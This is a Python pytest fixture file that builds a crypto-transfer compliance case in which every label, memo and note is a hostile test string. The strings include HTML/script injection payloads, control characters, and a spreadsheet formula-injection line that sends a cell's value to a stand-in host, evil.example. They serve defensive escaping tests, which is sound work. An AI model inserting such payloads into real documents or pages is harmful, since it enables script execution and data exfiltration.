from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest

from jupyter_compliance import Case

HOSTILE = "<img src=x onerror=alert(1)>"
BREAKOUT = "</script><script>alert(2)</script><!-- \" ' & \\u003c"
CONTROL = "bell\x07 esc\x1b[31m nul-ish\x01 line\nbreak\ttab ￿"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1)'
LINKED = "<a href='javascript:alert(3)'>href</a>"
LABELS = (HOSTILE, BREAKOUT, CONTROL, FORMULA, LINKED)
WHALE = Decimal("12345678901234567890.123456789012345678")


@pytest.fixture(scope="session")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A case whose every label, memo, id and note is hostile, with amounts no float can hold."""
    start = datetime(2022, 3, 23, tzinfo=UTC)
    hub, sink = "hub", HOSTILE
    rows = [("t0", start, BREAKOUT, hub, "ETH", WHALE, CONTROL)]
    rows += [
        (
            f"t{i + 1}",
            start + timedelta(hours=i + 1),
            hub,
            f"mule{i:02}",
            "ETH",
            Decimal("1.000000000000000001"),
            HOSTILE,
        )
        for i in range(12)
    ]
    rows += [
        (f"u{i}", start + timedelta(hours=20 + i), f"mule{i:02}", sink, "ETH", Decimal("0.9"), FORMULA)
        for i in range(12)
    ]
    names = ("transfer_id", "ts", "src", "dst", "asset", "amount", "memo")
    columns = {name: [row[i] for row in rows] for i, name in enumerate(names)}
    transfers = pl.DataFrame(columns, schema_overrides={"amount": pl.Decimal(38, 18)})
    tags = pl.DataFrame(
        {
            "account_id": [BREAKOUT, hub, hub, "mule00", "mule01", "mule02", "mule03"],
            "label": [HOSTILE, "Thief " + HOSTILE, BREAKOUT, CONTROL, FORMULA, LINKED, "x" * 500],
            "category": ["exchange", "sanctioned", "theft", "mixer", "exchange", "other", "other"],
            "source": ["OFAC SDN"] * 7,
            "confidence": [1.0] * 7,
        }
    )
    path = tmp_path_factory.mktemp("made") / "case"
    case = Case.create(
        path, transfers=transfers, tags=tags, title=HOSTILE + BREAKOUT, currency="ETH", author="A. Analyst"
    )
    case.note(HOSTILE + BREAKOUT, subject=hub, tags=[HOSTILE])
    case.note(CONTROL, transfer="t1")
    case.dispose(hub, "escalate", BREAKOUT)
    return path


@pytest.fixture
def case(made: Path) -> Case:
    """The hostile case, for reading only."""
    return Case.open(made, readonly=True)
